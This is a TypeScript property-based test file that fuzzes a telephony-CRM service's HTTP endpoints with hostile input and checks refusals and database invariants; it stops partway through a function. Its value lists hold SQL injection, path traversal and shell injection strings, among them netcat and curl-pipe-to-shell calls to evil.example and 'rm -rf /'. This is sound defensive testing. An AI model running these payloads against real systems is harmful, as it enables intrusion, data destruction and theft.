// Hostile input at every public endpoint, as properties (fast-check) over real HTTP: random and
// hostile values (huge and empty strings, Unicode with lone surrogates, RTL and NUL, SQL and shell
// metacharacters, repeated, missing and unknown parameters, wrong types, path traversal, bad
// percent-encoding), zero-byte, non-audio and oversized uploads, malformed bodies and content types.
// Every answer is held to the endpoint's contract: never a 5xx; a bad request gets the precise 4xx
// with a message that names the problem and leaves the database exactly as it was; a good one
// succeeds and stores what it said. At the end every stored row passes its invariants and the
// recordings directory holds exactly the stored recordings.
//
// Every request comes from a source address of its own (X-Forwarded-For), so the throttle of
// unknown clientIds per source never answers in place of the endpoint.
import { randomBytes } from "node:crypto";
import { readdir, rm, stat } from "node:fs/promises";
import path from "node:path";
import busboy from "busboy";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { createAsteriskSim, type AsteriskSim } from "@/e2e/sim/asterisk";
import { createRetailCrmSim, DEMO, hmacToken, seedDemo, type RetailCrmSim } from "@/e2e/sim/retailcrm";
import { serveRoutes } from "@/e2e/setup/route-server";
import { createTestAccount, mapExtensions } from "@/e2e/setup/factories";
import * as accountRoute from "@/app/account/route";
import * as activityRoute from "@/app/api/crm/activity/route";
import * as configRoute from "@/app/api/crm/config/route";
import * as makeCallRoute from "@/app/api/crm/make-call/route";
import * as registerRoute from "@/app/api/crm/register/route";
import * as userStatusRoute from "@/app/api/crm/user-status/route";
import * as eventRoute from "@/app/api/event/route";
import * as managerRoute from "@/app/api/manager/route";
import * as eventShRoute from "@/app/data/event.sh/route";
import * as recordingRoute from "@/app/recordings/[id]/[sig]/route";
import { connectAccount } from "@/lib/accounts/connect";
import { PARAMS_MAX_BYTES } from "@/lib/http/params";
import { cabinetUrl } from "@/lib/accounts/module";
import { closeAmiSessions } from "@/lib/asterisk/ami/pool";
import { decryptSecret, encryptSecret } from "@/lib/crypto/secrets";
import { db } from "@/lib/db/client";
import { env } from "@/lib/env";
import { recordingUrl } from "@/lib/recordings";
import { id3Mp3, pcmWav } from "@/e2e/fixtures/audio";
import { SNIFF_BYTES, sniffAudio } from "@/lib/recordings/sniff";
import { mapStatus } from "@/lib/telephony/status";
import { NASTY_STRINGS } from "@/e2e/fixtures/nasty-strings";

const MAX_BYTES = 64 * 1024;
// Before anything reads the configuration: small uploads limit, a recordings directory of our own.
const RECORDINGS_DIR = vi.hoisted(() => {
  const dir = `${process.env.TMPDIR ?? "/tmp"}/hostile-recordings-${process.pid}-${Date.now()}`;
  // Each request names its own source (X-Forwarded-For), as behind a proxy of ours on loopback.
  process.env.TRUSTED_PROXIES = "127.0.0.1, ::1";
  process.env.RECORDINGS_DIR = dir;
  process.env.RECORDING_MAX_BYTES = String(64 * 1024);
  return dir;
});

const MARKETPLACE_SECRET = process.env.MARKETPLACE_SECRET!;
const ami = { username: "crm", secret: "s3cret", read: "call", write: "originate" };

let crm: RetailCrmSim;
let crm2: RetailCrmSim;
let pbx: AsteriskSim;
let app: Awaited<ReturnType<typeof serveRoutes>>;
/** The dialplan's and click-to-call's account (extensions 101 → user 3, 102 → user 4). */
let main: { id: string; clientId: string };
/** The account the activity callbacks switch on and off. */
let switched: { id: string; clientId: string; crmUrl: string };
/** The account whose managers' statuses change. */
let statuses: { id: string; clientId: string };

// ---------------------------------------------------------------------------------------------
// HTTP
// ---------------------------------------------------------------------------------------------

let sourceSeq = 0;
function freshSource(): string {
  sourceSeq += 1;
  return `10.${(sourceSeq >> 16) & 255}.${(sourceSeq >> 8) & 255}.${sourceSeq & 255}`;
}

interface Reply {
  status: number;
  headers: Headers;
  body: Buffer;
  text: string;
}

async function send(
  url: string,
  init: { method?: "GET" | "POST"; body?: Uint8Array | string; headers?: Record<string, string> } = {},
): Promise<Reply> {
  const response = await fetch(url.startsWith("http") ? url : app.url + url, {
    method: init.method ?? "GET",
    body: typeof init.body === "string" || init.body === undefined ? init.body : new Uint8Array(init.body),
    headers: { "x-forwarded-for": freshSource(), ...init.headers },
    redirect: "manual",
  });
  const body = Buffer.from(await response.arrayBuffer());
  return { status: response.status, headers: response.headers, body, text: body.toString("utf8") };
}

function jsonOf(reply: Reply): unknown {
  try {
    return JSON.parse(reply.text);
  } catch {
    return reply.text;
  }
}

type Pairs = ReadonlyArray<readonly [string, string]>;
type Params = Record<string, string>;

/** What the server reads from a string: UTF-8 on the wire, so a lone surrogate arrives as U+FFFD. */
const wire = (value: string) => Buffer.from(value, "utf8").toString("utf8");
/** A multipart field's value as the form parser gives it: UTF-8 decoded, which drops a leading BOM. */
const wireMultipart = (value: string) => wire(value).replace(/^\ufeff/, "");

/** A multipart/form-data body built by hand, so every byte of a value reaches the server as generated. */
function multipartBody(
  fields: Pairs,
  file?: { field: string; filename: string; bytes: Uint8Array },
): { body: Buffer; contentType: string } {
  const boundary = `----hostile${randomBytes(12).toString("hex")}`;
  // As browsers escape names and file names in Content-Disposition.
  const escape = (s: string) => s.replace(/"/g, "%22").replace(/\r/g, "%0D").replace(/\n/g, "%0A");
  const parts: Buffer[] = [];
  for (const [name, value] of fields) {
    parts.push(
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="${escape(name)}"\r\n\r\n${value}\r\n`,
        "utf8",
      ),
    );
  }
  if (file) {
    parts.push(
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="${escape(file.field)}"; filename="${escape(file.filename)}"\r\nContent-Type: application/octet-stream\r\n\r\n`,
        "utf8",
      ),
      Buffer.from(file.bytes),
      Buffer.from("\r\n"),
    );
  }
  parts.push(Buffer.from(`--${boundary}--\r\n`));
  return { body: Buffer.concat(parts), contentType: `multipart/form-data; boundary=${boundary}` };
}

/**
 * How the parameters travel: the query of a GET or a POST, a form body (urlencoded in any spelling
 * of its media type, or multipart), half and half, or the query with a body of a type forms are
 * never read from (which must be ignored).
 */
const URLENCODED_TYPES = [
  "application/x-www-form-urlencoded",
  "application/x-www-form-urlencoded; charset=UTF-8",
  "Application/X-WWW-Form-URLEncoded",
  "application/x-www-form-urlencoded;charset=koi8-r",
];
const IGNORED_BODY_TYPES = [
  "application/json",
  "text/plain",
  "application/xml",
  "application/octet-stream",
  "x-www-form-urlencoded-but-not",
  "",
];

type Transport =
  | { kind: "get" }
  | { kind: "post-query" }
  | { kind: "urlencoded"; contentType: string }
  | { kind: "multipart" }
  | { kind: "split"; at: number }
  | { kind: "ignored-body"; contentType: string };

const transportArb: fc.Arbitrary<Transport> = fc.oneof(
  fc.constant<Transport>({ kind: "get" }),
  fc.constant<Transport>({ kind: "post-query" }),
  fc.constantFrom(...URLENCODED_TYPES).map((contentType): Transport => ({ kind: "urlencoded", contentType })),
  fc.constant<Transport>({ kind: "multipart" }),
  fc.nat(12).map((at): Transport => ({ kind: "split", at })),
  fc.constantFrom(...IGNORED_BODY_TYPES).map((contentType): Transport => ({ kind: "ignored-body", contentType })),
);

const MAX_QUERY = 8000;

interface Encoded {
  url: string;
  init: { method: "GET" | "POST"; body?: Uint8Array | string; headers: Record<string, string> };
  /** The parameters the endpoint must see: the query's, then the form body's over them, a repeated name with its last value. */
  params: Params;
  /** Bytes of the form body the endpoint reads (0 when there is none, or one of a type it ignores). */
  formBytes: number;
}

function lastWins(pairs: Iterable<readonly [string, string]>): Params {
  const params: Params = {};
  for (const [key, value] of pairs)
    Object.defineProperty(params, key, { value, enumerable: true, configurable: true, writable: true });
  return params;
}

function encode(pathname: string, pairs: Pairs, transport: Transport, rawQuery = ""): Encoded {
  const queryOf = (list: Pairs) =>
    [new URLSearchParams(list.map(([k, v]) => [k, v])).toString(), rawQuery].filter(Boolean).join("&");
  const split = transport.kind === "split" ? Math.min(transport.at, pairs.length) : 0;
  // A query the HTTP server would refuse as too long (431) travels in the body instead.
  const queryPart =
    transport.kind === "split"
      ? pairs.slice(0, split)
      : transport.kind === "urlencoded" || transport.kind === "multipart"
        ? []
        : pairs;
  const kind = queryOf(queryPart).length > MAX_QUERY ? "urlencoded" : transport.kind;
  const inQuery =
    kind === "get" || kind === "post-query" || kind === "ignored-body"
      ? pairs
      : kind === "split"
        ? pairs.slice(0, split)
        : [];
  const inBody = kind === "urlencoded" || kind === "multipart" ? pairs : kind === "split" ? pairs.slice(split) : [];
  const query = queryOf(inQuery);
  const url = `${pathname}${query ? `?${query}` : ""}`;
  const fromQuery = [...new URL(url, "http://x").searchParams];
  if (kind === "get") return { url, init: { method: "GET", headers: {} }, params: lastWins(fromQuery), formBytes: 0 };
  if (kind === "post-query")
    return { url, init: { method: "POST", headers: {} }, params: lastWins(fromQuery), formBytes: 0 };
  if (kind === "ignored-body") {
    const body = JSON.stringify(Object.fromEntries(pairs.map(([k]) => [k, "ignored"])));
    const headers: Record<string, string> =
      transport.kind === "ignored-body" && transport.contentType ? { "content-type": transport.contentType } : {};
    return {
      url,
      init: { method: "POST", body: Buffer.from(body), headers },
      params: lastWins(fromQuery),
      formBytes: 0,
    };
  }
  if (kind === "multipart") {
    const { body, contentType } = multipartBody(inBody);
    return {
      url,
      init: { method: "POST", body, headers: { "content-type": contentType } },
      params: lastWins([...fromQuery, ...inBody.map(([k, v]) => [k, wireMultipart(v)] as const)]),
      formBytes: body.length,
    };
  }
  // urlencoded, and the body half of split
  const body = new URLSearchParams(inBody.map(([k, v]) => [k, v])).toString();
  const contentType = transport.kind === "urlencoded" ? transport.contentType : "application/x-www-form-urlencoded";
  return {
    url,
    init: { method: "POST", body, headers: { "content-type": contentType } },
    params: lastWins([...fromQuery, ...new URLSearchParams(body)]),
    formBytes: Buffer.byteLength(body),
  };
}

// ---------------------------------------------------------------------------------------------
// The database: nothing changes for a refused request, and every row is sound
// ---------------------------------------------------------------------------------------------

interface Snapshot {
  calls: number;
  events: number;
  deliveries: number;
  recordings: number;
  accounts: string;
  users: string;
}

async function snapshot(): Promise<Snapshot> {
  const [row] = await db().$queryRaw<Snapshot[]>`
    SELECT (SELECT count(*) FROM calls)::int AS calls,
           (SELECT count(*) FROM call_events)::int AS events,
           (SELECT count(*) FROM deliveries)::int AS deliveries,
           (SELECT count(*) FROM recordings)::int AS recordings,
           (SELECT md5(coalesce(string_agg(concat_ws(':', id, "crmUrl", "clientId", "apiKeyEnc", "active", "freeze"), '|' ORDER BY id), '')) FROM accounts) AS accounts,
           (SELECT md5(coalesce(string_agg(concat_ws(':', "accountId", "crmUserId", status, extension), '|' ORDER BY id), '')) FROM crm_users) AS users`;
  return row!;
}

const PHONE_CHARS = /^[0-9+()\-. *#a-zA-Z:@_]*$/;
const UNPRINTABLE = /\p{C}/u;
const UNIQUEID = /^[A-Za-z0-9._:-]{1,150}$/;
const EXTENSION = /^\d{1,10}$/;
const UPLOAD_RESULTS = ["answered", "busy", "failed", "no answer", "not allowed", "unknown"];
const HANGUP_STATUSES = ["answered", "busy", "cancel", "failed", "no answered"];
const STORAGE_KEY = /^[A-Za-z0-9_-]{32}\.(?:wav|mp3|ogg)$/;
const INT4_MAX = 2_147_483_647;

function isRealDateTime(value: string): boolean {
  const match = /^(\d{4})-(\d{2})-(\d{2})[ T](\d{2}):(\d{2}):(\d{2})$/.exec(value);
  if (!match) return false;
  const [year, month, day, hour, minute, second] = match.slice(1).map(Number) as [
    number,
    number,
    number,
    number,
    number,
    number,
  ];
  const date = new Date(Date.UTC(year, month - 1, day, hour, minute, second));
  return (
    year >= 1970 &&
    date.toISOString().slice(0, 19) === `${match[1]}-${match[2]}-${match[3]}T${match[4]}:${match[5]}:${match[6]}`
  );
}

function isRecordingUrl(value: string): boolean {
  if (!/^(https?|ftp):\/\/\S+$/i.test(value) || UNPRINTABLE.test(value)) return false;
  try {
    new URL(value);
    return true;
  } catch {
    return false;
  }
}

function unprintableStrings(value: unknown, at = "$"): string[] {
  if (typeof value === "string") return UNPRINTABLE.test(value) ? [at] : [];
  if (Array.isArray(value)) return value.flatMap((v, i) => unprintableStrings(v, `${at}[${i}]`));
  if (value && typeof value === "object")
    return Object.entries(value).flatMap(([k, v]) => unprintableStrings(v, `${at}.${k}`));
  return [];
}

const isPhone = (v: unknown) =>
  typeof v === "string" && v.length > 0 && v.length <= 64 && v === v.trim() && PHONE_CHARS.test(v);

/** Every stored row of every (test) account against the invariants the journal, the worker and the CRM rely on. */
async function expectSoundRows(): Promise<void> {
  const [accounts, users, calls, events, deliveries, recordings] = await Promise.all([
    db().account.findMany(),
    db().crmUser.findMany(),
    db().call.findMany(),
    db().callEvent.findMany(),
    db().delivery.findMany({ include: { call: true } }),
    db().recording.findMany(),
  ]);
  const problems: string[] = [];
  const bad = (what: string, row: unknown) => problems.push(`${what}: ${JSON.stringify(row)}`);

  for (const a of accounts) {
    if (!/^[0-9a-f]{64}$/.test(a.clientId)) bad("account clientId", a);
    let host = "";
    try {
      host = new URL(a.crmUrl).hostname;
    } catch {
      bad("account crmUrl is not a URL", a);
    }
    if (
      !/^https?:\/\/[^/]+\/$/.test(a.crmUrl) ||
      (!host.startsWith("[") && host.split(".").some((label) => label === ""))
    )
      bad("account crmUrl", a);
  }
  for (const u of users) {
    if (u.crmUserId < 0 || u.crmUserId > INT4_MAX) bad("crm user id", u);
    if (u.extension !== null && !EXTENSION.test(u.extension)) bad("crm user extension", u);
    if (u.status !== null && !["free", "busy", "dinner", "break"].includes(u.status)) bad("crm user status", u);
  }
  const callByKey = new Map(calls.map((c) => [`${c.accountId}/${c.uniqueid}`, c]));
  for (const c of calls) {
    if (!UNIQUEID.test(c.uniqueid)) bad("call uniqueid", c);
    if (c.direction === null) bad("call without direction", c);
    if (c.phone !== null && !isPhone(c.phone)) bad("call phone", c);
    if (c.extension !== null && !EXTENSION.test(c.extension)) bad("call extension", c);
    if (c.result !== null && !UPLOAD_RESULTS.includes(c.result)) bad("call result", c);
    if (c.startedAt !== null && (Number.isNaN(c.startedAt.getTime()) || c.startedAt.getUTCFullYear() < 1970))
      bad("call startedAt", c);
    for (const n of [c.waitSeconds, c.talkSeconds])
      if (n !== null && (!Number.isInteger(n) || n < 0 || n > 9_999_999)) bad("call seconds", c);
    if (c.result === "failed" && c.uniqueid.startsWith("crm-") && !c.failureReason)
      bad("failed click without a reason", c);
  }
  const recordingById = new Map(recordings.map((r) => [r.id, r]));
  for (const e of events) {
    if (!UNIQUEID.test(e.uniqueid)) bad("event uniqueid", e);
    const payload = e.payload as Record<string, unknown>;
    if (unprintableStrings(payload).length)
      bad(`event payload has unprintable text at ${unprintableStrings(payload).join(", ")}`, e);
    if (e.type === "UPLOAD") {
      const recording = recordingById.get(Number(payload.recordingId));
      if (
        !recording ||
        recording.accountId !== e.accountId ||
        recording.uniqueid !== e.uniqueid ||
        recording.sizeBytes !== payload.sizeBytes
      )
        bad("upload event without its recording", e);
      continue;
    }
    if (payload.type !== e.type.toLowerCase() || payload.uniqueid !== e.uniqueid)
      bad("event payload does not match its row", e);
    if (!isPhone(payload.phone)) bad("event phone", e);
    if (!callByKey.has(`${e.accountId}/${e.uniqueid}`)) bad("event without its call", e);
    if (payload.date !== undefined && !isRealDateTime(String(payload.date))) bad("event date", e);
  }
  for (const d of deliveries) {
    const p = d.payload as Record<string, unknown>;
    if (!d.call || d.call.accountId !== d.accountId) {
      bad("delivery without a call of its account", d);
      continue;
    }
    if (unprintableStrings(p).length) bad("delivery payload has unprintable text", d);
    if (d.kind === "CALL_EVENT") {
      if (
        p.callExternalId !== d.call.uniqueid ||
        !["in", "out", "hangup"].includes(String(p.type)) ||
        !isPhone(p.phone)
      )
        bad("call event delivery", d);
      if (!Array.isArray(p.codes) || !p.codes.every((code) => typeof code === "string" && EXTENSION.test(code)))
        bad("call event codes", d);
      if (p.type === "hangup" ? !HANGUP_STATUSES.includes(String(p.hangupStatus)) : p.hangupStatus !== undefined)
        bad("call event hangupStatus", d);
    } else if (d.kind === "CALLS_UPLOAD") {
      if (p.externalId !== d.call.uniqueid || !["in", "out"].includes(String(p.type)) || !isPhone(p.phone))
        bad("calls upload delivery", d);
      if (
        typeof p.date !== "string" ||
        !/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/.test(p.date) ||
        !isRealDateTime(p.date)
      )
        bad("calls upload date", d);
      if (!UPLOAD_RESULTS.includes(String(p.result))) bad("calls upload result", d);
      for (const n of [p.duration, p.durationWaiting])
        if (!Number.isInteger(n) || (n as number) < 0) bad("calls upload seconds", d);
      if (p.code !== undefined && !EXTENSION.test(String(p.code))) bad("calls upload code", d);
      if (p.recordUrl !== undefined && !isRecordingUrl(String(p.recordUrl))) bad("calls upload recordUrl", d);
    }
  }
  const files = await recordingFiles();
  for (const r of recordings) {
    if (!STORAGE_KEY.test(r.storageKey) || !["audio/wav", "audio/mpeg", "audio/ogg"].includes(r.contentType))
      bad("recording key or type", r);
    if (r.sizeBytes < 1 || r.sizeBytes > MAX_BYTES) bad("recording size", r);
    if (files.get(r.storageKey) !== r.sizeBytes) bad("recording file missing or of another size", r);
    if (!UNIQUEID.test(r.uniqueid)) bad("recording uniqueid", r);
  }
  const keys = new Set(recordings.map((r) => r.storageKey));
  for (const name of files.keys())
    if (!keys.has(name)) bad("a file in the recordings directory that no recording owns", name);
  expect(problems).toEqual([]);
}

/** Every file under the recordings directory, by relative path (a stored one is "<2 chars>/<key>"), with its size. */
async function recordingFiles(): Promise<Map<string, number>> {
  const found = new Map<string, number>();
  const entries = await readdir(RECORDINGS_DIR, { recursive: true, withFileTypes: true }).catch(() => []);
  for (const entry of entries) {
    if (!entry.isFile()) continue;
    const full = path.join(entry.parentPath, entry.name);
    const relative = path.relative(RECORDINGS_DIR, full);
    const stored = relative === path.join(entry.name.slice(0, 2), entry.name) && STORAGE_KEY.test(entry.name);
    found.set(stored ? entry.name : relative, (await stat(full)).size);
  }
  return found;
}

// ---------------------------------------------------------------------------------------------
// Values
// ---------------------------------------------------------------------------------------------

const SQL = [
  "' OR '1'='1",
  "1; DROP TABLE calls; --",
  "\"; DELETE FROM call_events WHERE ''='",
  '1\' UNION SELECT "clientId" FROM accounts--',
  "%' --",
  "1)) OR pg_sleep(5)--",
];
const SHELL = [
  "$(reboot)",
  "`reboot`",
  "; rm -rf / #",
  "| nc evil.example 1234",
  "&& curl evil.example | sh",
  "${IFS}cat${IFS}/etc/passwd",
  "\n/bin/sh\n",
  "'\"$(id)\"'",
];
const TRAVERSAL = [
  "../../../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "/etc/passwd\u0000.wav",
  "....//....//etc/passwd",
  "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
  "/dev/zero",
  "CON",
  "recordings/../../.env",
];
const ENCODING = ["%", "%z", "%zz", "%ff%fe", "%00", "%C0%AF", "%ED%A0%80", "+", "&", "=", "?", "#", "%25"];
const WRONG_TYPES = [
  "-1",
  "1.5",
  "1e309",
  "NaN",
  "Infinity",
  "0x1F",
  "１２３",
  "٣",
  "true",
  "null",
  "[]",
  "{}",
  "[object Object]",
  "undefined",
  "9".repeat(20),
];
const UNICODE = [
  "\ud800",
  "\udfff",
  "a\ud800b",
  "\u202e101",
  "\u0000",
  "\u0007",
  "\u001b[31m",
  "\u2028",
  "\ufeff101",
  "１０１",
];
const HUGE = ["9".repeat(5000), "x".repeat(3000), "Ж".repeat(2000), "😀".repeat(1000), "%".repeat(3000)];

const hostile: fc.Arbitrary<string> = fc.oneof(
  {
    weight: 4,
    arbitrary: fc.constantFrom(
      ...NASTY_STRINGS,
      ...SQL,
      ...SHELL,
      ...TRAVERSAL,
      ...ENCODING,
      ...WRONG_TYPES,
      ...UNICODE,
    ),
  },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 24 }) },
  { weight: 1, arbitrary: fc.string({ unit: "grapheme", maxLength: 12 }) },
  { weight: 1, arbitrary: fc.string({ maxLength: 80 }) },
  { weight: 1, arbitrary: fc.constantFrom(...HUGE) },
);

const digits = (min: number, max: number) =>
  fc.string({ unit: fc.constantFrom(..."0123456789"), minLength: min, maxLength: max });
const padded = (arb: fc.Arbitrary<string>) =>
  fc.tuple(fc.constantFrom("", " ", "  "), arb, fc.constantFrom("", " ")).map(([a, v, b]) => a + v + b);

/** Numbers as the dialplan sends CALLERID(num) and as the CRM shows them. */
const dialplanPhone = padded(
  fc.oneof(
    digits(2, 15).map((d) => `+${d}`),
    digits(1, 20),
    fc.constantFrom(
      "+7 (900) 123-45-67",
      "8 (912) 555-00-11",
      "anonymous",
      "Unknown",
      "alice@pbx.example",
      "*97",
      "#31#79001234567",
      "sip:101@10.0.0.1:5060",
      "9".repeat(64),
    ),
  ),
);
const extension = digits(1, 10);
const dateTime = fc
  .tuple(
    fc.date({ min: new Date("1970-01-01T00:00:00Z"), max: new Date("2100-12-31T23:59:59Z"), noInvalidDate: true }),
    fc.constantFrom(" ", "T"),
  )
  .map(([d, sep]) => d.toISOString().slice(0, 19).replace("T", sep));
const dialStatus = fc.constantFrom(
  "ANSWER",
  "ANSWERED",
  "answer",
  "BUSY",
  "CANCEL",
  "NO ANSWER",
  "NOANSWER",
  "no_answer",
  "FAILED",
  "CONGESTION",
  "CHANUNAVAIL",
  "DONTCALL",
  "TORTURE",
  "",
  "Статус",
  "x".repeat(32),
);
const recordUrl = fc.oneof(
  fc.webUrl({ validSchemes: ["http", "https", "ftp"] }).filter((u) => u.length <= 2048 && isRecordingUrl(u)),
  fc.constant("https://user:pw@pbx.example/записи/1.wav"),
);
const seconds = digits(1, 7);

/** Values just inside and just outside each parameter's limits. */
const EDGES: Record<string, string[]> = {
  uniqueid: ["1".repeat(150), "1".repeat(151), "a b", " 1717171717.1 ", "1717171717.1/..", "-", "."],
  phone: ["1".repeat(64), "1".repeat(65), " ", "+7\t900", "+7 900", "7900\n1234567", "79001234567\r\n"],
  code: ["1".repeat(10), "1".repeat(11), "101,102", "101 102", ",,,", "101,", " ", "1".repeat(500), "1,".repeat(251)],
  status: ["A".repeat(32), "A".repeat(33), " busy ", "NO\u00a0ANSWER"],
  direct: ["in", "out", "IN", "incoming", " in", ""],
  date: [
    "1970-01-01 00:00:00",
    "1969-12-31 23:59:59",
    "2024-02-29 12:00:00",
    "2023-02-29 12:00:00",
    "2026-12-31 23:59:60",
    "2026-00-10 10:00:00",
    "9999-12-31 23:59:59",
    "2026-01-01  10:00:00",
    "2026-1-1 1:1:1",
  ],
  hold: ["0", "9999999", "10000000", " 7 ", "-0", "+5", "07"],
  duration: ["0", "9999999", "10000000", "1.0", "1,5"],
  path: [
    "http://x",
    "ftp://a/b",
    "https://",
    "http://[",
    "https://pbx/a b.wav",
    "javascript:alert(1)",
    "file:///etc/passwd",
    `https://pbx/${"a".repeat(2040)}`,
  ],
  clientId: ["f".repeat(64), "F".repeat(64), "f".repeat(63), "f".repeat(128), "f".repeat(129), " "],
  type: ["IN", "in ", "ring", "Hangup"],
};
const edge = (key: string) => fc.constantFrom(...(EDGES[key] ?? [""]));

const JUNK_KEYS = [
  "foo",
  "PHONE",
  "ClientId",
  "code[]",
  "phone[]",
  "__proto__",
  "constructor",
  "toString",
  "hasOwnProperty",
  "",
  " ",
  "a".repeat(300),
  "uniqueid\u0000",
  "тип",
];

type Mutation =
  | { kind: "set" | "repeat"; key: string; value: string }
  | { kind: "drop"; key: string }
  | { kind: "junk"; key: string; value: string };

/** One change of a good request: a parameter set to a hostile or edge value, repeated, dropped, or an unknown one added. */
function mutationArb(keys: readonly string[]): fc.Arbitrary<Mutation> {
  const value = (key: string) => fc.oneof({ weight: 3, arbitrary: hostile }, { weight: 2, arbitrary: edge(key) });
  return fc.oneof(
    {
      weight: 5,
      arbitrary: fc
        .constantFrom(...keys)
        .chain((key) => value(key).map((v): Mutation => ({ kind: "set", key, value: v }))),
    },
    {
      weight: 2,
      arbitrary: fc
        .constantFrom(...keys)
        .chain((key) => value(key).map((v): Mutation => ({ kind: "repeat", key, value: v }))),
    },
    { weight: 2, arbitrary: fc.constantFrom(...keys).map((key): Mutation => ({ kind: "drop", key })) },
    {
      weight: 1,
      arbitrary: fc
        .tuple(fc.constantFrom(...JUNK_KEYS), hostile)
        .map(([key, v]): Mutation => ({ kind: "junk", key, value: v })),
    },
  );
}

function mutate(pairs: Pairs, mutations: readonly Mutation[]): Pairs {
  let out = [...pairs];
  for (const m of mutations) {
    if (m.kind === "drop") out = out.filter(([k]) => k !== m.key);
    else if (m.kind === "set") {
      const at = out.findIndex(([k]) => k === m.key);
      out = out.filter(([k]) => k !== m.key);
      out.splice(at < 0 ? out.length : at, 0, [m.key, m.value]);
    } else out.push([m.key, m.value]);
  }
  return out;
}

// ---------------------------------------------------------------------------------------------
// The contracts
// ---------------------------------------------------------------------------------------------

type Expected = { ok: true } | { ok: false; status: number; error: string | RegExp };
type Refusal = Extract<Expected, { ok: false }>;
const refuse = (status: number, error: string | RegExp): Refusal => ({ ok: false, status, error });
const OK: Expected = { ok: true };

function expectRefusal(reply: Reply, expected: Refusal, context: unknown) {
  const body = jsonOf(reply);
  expect({ status: reply.status, body }, JSON.stringify(context)).toEqual({
    status: expected.status,
    body: {
      success: false,
      errorMsg: typeof expected.error === "string" ? expected.error : expect.stringMatching(expected.error),
    },
  });
}

const trimmed = (v: string | undefined) => v?.trim();
/** String lengths as the validation counts them: in code points. */
const len = (v: string) => [...v].length;
const has = (p: Params, key: string) => Object.prototype.hasOwnProperty.call(p, key);
const get = (p: Params, key: string) => (has(p, key) ? p[key] : undefined);

/** /api/event's parameters as the guide gives them (2.2.2): empty ones count as absent, DATE stands for date. */
function eventParams(raw: Params): Params {
  const params: Params = {};
  for (const [key, value] of Object.entries(raw))
    if (value !== "")
      Object.defineProperty(params, key === "DATE" ? "date" : key, {
        value,
        enumerable: true,
        configurable: true,
        writable: true,
      });
  if (get(raw, "date")) params.date = raw.date!;
  return params;
}

const codesOf = (code: string | undefined) => [
  ...new Set(
    (code ?? "")
      .split(",")
      .map((c) => c.trim())
      .filter(Boolean),
  ),
];

/** The first of clientId, type and uniqueid that /api/event refuses, with its message: without them there is no event. */
function requiredEventError(p: Params): string | null {
  const clientId = get(p, "clientId");
  if (clientId === undefined) return "parameter clientId is required";
  if (len(clientId) > 128) return "parameter clientId is too long";
  if (!["in", "out", "hangup", "upload"].includes(get(p, "type") ?? ""))
    return "parameter type must be one of in, out, hangup, upload";
  const uniqueid = trimmed(get(p, "uniqueid"));
  if (!uniqueid) return "parameter uniqueid is required";
  if (len(uniqueid) > 150) return "parameter uniqueid is too long";
  if (!/^[A-Za-z0-9._:-]+$/.test(uniqueid))
    return "parameter uniqueid must look like an Asterisk UNIQUEID (e.g. 1717171717.42)";
  return null;
}

const OPTIONAL_EVENT_FIELDS = ["phone", "code", "status", "direct", "date", "hold", "duration", "path"] as const;

/** Why /api/event cannot use an optional parameter as sent, or null. */
function optionalEventError(name: (typeof OPTIONAL_EVENT_FIELDS)[number], raw: string): string | null {
  const value = raw.trim();
  switch (name) {
    case "phone":
      if (len(value) > 64) return "parameter phone is too long";
      return PHONE_CHARS.test(value) ? null : "parameter phone has characters a phone number cannot have";
    case "code":
      if (len(value) > 500) return "parameter code is too long";
      return /^[0-9,\s]*$/.test(value) && codesOf(value).every((c) => EXTENSION.test(c))
        ? null
        : "parameter code must be extensions (1 to 10 digits), comma-separated";
    case "status":
      if (len(value) > 32) return "parameter status is too long";
      return UNPRINTABLE.test(value) ? "parameter status has unprintable characters" : null;
    case "direct":
      return raw === "in" || raw === "out" ? null : "parameter direct must be in or out";
    case "date":
      if (!/^\d{4}-\d{2}-\d{2}[ T]\d{2}:\d{2}:\d{2}$/.test(value)) return "parameter date must be YYYY-MM-DD HH:MM:SS";
      return isRealDateTime(value)
        ? null
        : "parameter date is not a real date and time (YYYY-MM-DD HH:MM:SS, from 1970)";
    case "hold":
    case "duration":
      return /^\d{1,7}$/.test(value) ? null : `parameter ${name} must be a whole number of seconds`;
    case "path":
      if (len(value) > 2048) return "parameter path is too long";
      return value === "" || isRecordingUrl(value) ? null : "parameter path must be an http, https or ftp URL";
  }
}

/** What of a bad value the service keeps: a phone's allowed characters, the real extensions of a code list. */
const CLEANED: Partial<Record<(typeof OPTIONAL_EVENT_FIELDS)[number], (raw: string) => string>> = {
  phone: (raw) =>
    raw
      .replace(/[^0-9+()\-. *#a-zA-Z:@_]/g, "")
      .replace(/ +/g, " ")
      .trim()
      .slice(0, 64),
  code: (raw) =>
    codesOf(raw)
      .filter((c) => EXTENSION.test(c))
      .join(","),
};

interface EventOutcome {
  expected: Expected;
  /** The parameters as stored: bad optional ones cleaned or left out. */
  params: Params;
  /** What the reply's `warnings` say, in order. */
  warnings: string[];
  /** calls."inputWarnings" the event adds ("field:action"). */
  keys: string[];
}

/**
 * /api/event's contract: clientId, type and uniqueid must be right (400), the clientId known
 * (401), and in, out and hangup need a phone (400). Every other parameter that is wrong is
 * cleaned or left out and said so, and the event stored: it must reach the CRM.
 */
function eventContract(raw: Params): EventOutcome {
  const p = eventParams(raw);
  const refused = (expected: Refusal): EventOutcome => ({ expected, params: p, warnings: [], keys: [] });
  const problem = requiredEventError(p);
  if (problem) return refused(refuse(400, problem));
  if (p.clientId !== main.clientId) return refused(refuse(401, "unknown clientId"));
  const type = p.type!;
  const params: Params = { clientId: p.clientId!, type, uniqueid: p.uniqueid! };
  const outcome: EventOutcome = { expected: OK, params, warnings: [], keys: [] };
  if (type === "upload") return outcome;
  const warn = (name: string, action: "cleaned" | "ignored", message: string) => {
    outcome.warnings.push(message);
    outcome.keys.push(`${name}:${action}`);
  };
  for (const name of OPTIONAL_EVENT_FIELDS) {
    const value = get(p, name);
    if (value === undefined) continue;
    const error = optionalEventError(name, value);
    if (!error) {
      params[name] = value;
      continue;
    }
    const cleaned = CLEANED[name]?.(value);
    if (cleaned && !optionalEventError(name, cleaned)) {
      params[name] = cleaned;
      warn(name, "cleaned", `${error}; used ${JSON.stringify(cleaned)} instead`);
